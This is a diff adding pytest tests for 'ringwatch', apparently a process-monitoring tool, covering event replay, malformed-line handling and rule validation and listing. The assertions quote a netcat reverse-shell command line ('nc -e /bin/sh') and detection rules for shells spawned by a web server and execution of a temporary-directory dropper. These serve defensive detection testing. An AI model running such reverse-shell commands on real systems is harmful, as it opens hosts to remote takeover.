@@ -1,0 +1,123 @@
+"""`ringwatch replay` and `ringwatch rules validate|list` as commands, on the recorded fixture."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+from tests.monitor_proc import REPO
+
+FIXTURE = REPO / "tests" / "fixtures" / "exec_events.jsonl"
+NOBODY = 65534
+
+
+def ringwatch(*args: str, user: int | None = None) -> subprocess.CompletedProcess[str]:
+    cmd = [sys.executable, "-m", "monitor", *args]
+    if user is not None:
+        # Replay needs neither root nor a kernel: prove it by dropping to nobody.
+        cmd = ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups", *cmd]
+    env = {**os.environ, "HOME": "/"}
+    return subprocess.run(cmd, cwd=REPO, capture_output=True, text=True, env=env, timeout=120, check=False)
+
+
+def alerts_of(stdout: str) -> list[dict[str, object]]:
+    return [json.loads(line) for line in stdout.splitlines()]
+
+
+def test_replay_recorded_fixture_with_default_rules_as_nobody() -> None:
+    res = ringwatch("replay", str(FIXTURE), user=NOBODY)
+    assert res.returncode == 0, res.stderr
+    alerts = alerts_of(res.stdout)
+    by_rule = {a["rule"]: a for a in alerts}
+    assert sorted(by_rule) == sorted(
+        [
+            "Shell spawned by a server process",
+            "Execution from a temporary directory",
+            "System user runs an interactive shell",
+            "Netcat remote code execution",
+        ]
+    )
+    assert len(alerts) == 4
+    assert by_rule["Netcat remote code execution"]["priority"] == "CRITICAL"
+    assert "cmdline=nc -e /bin/sh 127.0.0.1 9" in str(by_rule["Netcat remote code execution"]["output"])
+    shell = by_rule["Shell spawned by a server process"]
+    assert "shell=sh" in str(shell["output"]) and "parent=nginx" in str(shell["output"])
+    assert shell["ancestors"][0]["name"] == "nginx"  # type: ignore[index]
+    assert "uid=33" in str(by_rule["System user runs an interactive shell"]["output"])
+    assert by_rule["Execution from a temporary directory"]["event"]["proc.exe"] == "/tmp/rwfix-dropper"  # type: ignore[index]
+    assert "replayed 23 events from 23 lines: 4 alerts, 0 malformed lines skipped" in res.stderr
+
+
+def test_replay_skips_and_counts_malformed_lines(tmp_path: Path) -> None:
+    lines = FIXTURE.read_text().splitlines()
+    bad = tmp_path / "events.jsonl"
+    bad.write_text("\n".join([lines[0], "{not json", "[1, 2]", *lines[1:], '{"evt.type": "exec']) + "\n")
+    res = ringwatch("replay", str(bad))
+    assert res.returncode == 0, res.stderr
+    assert f"{bad}:2: skipped malformed event: not JSON" in res.stderr
+    assert f"{bad}:3: skipped malformed event: expected a JSON object, got list" in res.stderr
+    assert f"{bad}:{len(lines) + 3}: skipped malformed event: not JSON" in res.stderr
+    assert (
+        f"replayed 23 events from {len(lines) + 3} lines: 4 alerts, 3 malformed lines skipped" in res.stderr
+    )
+    assert len(alerts_of(res.stdout)) == 4
+
+
+def test_replay_with_extra_rules_and_without_defaults(tmp_path: Path) -> None:
+    extra = tmp_path / "mine.yaml"
+    extra.write_text(
+        '- rule: any ls\n  condition: proc.name == "ls"\n  output: "%evt.type %proc.cmdline"\n'
+        "  priority: DEBUG\n"
+    )
+    res = ringwatch("replay", str(FIXTURE), "--rules", str(extra), "--no-default-rules")
+    assert res.returncode == 0, res.stderr
+    # Not constrained by type: the exec and the exit of `ls /` both match.
+    assert [(a["rule"], a["output"]) for a in alerts_of(res.stdout)] == [
+        ("any ls", "execve ls /"),
+        ("any ls", "exit ls /"),
+    ]
+
+
+def test_validate_lists_every_error_and_fails(tmp_path: Path) -> None:
+    good = tmp_path / "good.yaml"
+    good.write_text("- rule: Netcat remote code execution\n  enabled: false\n")
+    res = ringwatch("rules", "validate", str(good))
+    assert res.returncode == 0, res.stderr
+    assert res.stdout.startswith("ok: 4 rules from 2 file(s)")
+    bad = tmp_path / "bad.yaml"
+    bad.write_text(
+        "- rule: a\n  condition: proc.nam == 1\n  output: o\n  priority: INFO\n"
+        "- rule: b\n  condition: evt.type == 'x'\n  output: o\n  priority: SEVERE\n"
+    )
+    res = ringwatch("rules", "validate", str(good), str(bad))
+    assert res.returncode == 1
+    assert f"{bad}:2:14: rule 'a': unknown field 'proc.nam'" in res.stderr
+    assert f"{bad}:8:13: rule 'b': priority: 'SEVERE' is not one of" in res.stderr
+    assert "2 error(s) in rules" in res.stderr
+
+
+def test_rules_list(tmp_path: Path) -> None:
+    off = tmp_path / "off.yaml"
+    off.write_text("- rule: Netcat remote code execution\n  enabled: false\n")
+    res = ringwatch("rules", "list", "--json", "--rules", str(off))
+    assert res.returncode == 0, res.stderr
+    rows = {r["name"]: r for r in alerts_of(res.stdout)}
+    assert rows["Netcat remote code execution"]["enabled"] is False
+    assert rows["Netcat remote code execution"]["priority"] == "CRITICAL"
+    assert rows["Shell spawned by a server process"]["event_types"] == ["execve", "execveat"]
+    assert rows["Shell spawned by a server process"]["tags"] == ["process", "mitre_execution", "T1505.003"]
+    table = ringwatch("rules", "list")
+    assert table.returncode == 0
+    assert table.stdout.splitlines()[0].split() == [
+        "NAME",
+        "PRIORITY",
+        "ENABLED",
+        "ACTION",
+        "EVENT",
+        "TYPES",
+        "TAGS",
+    ]
+    assert len(table.stdout.splitlines()) == 5
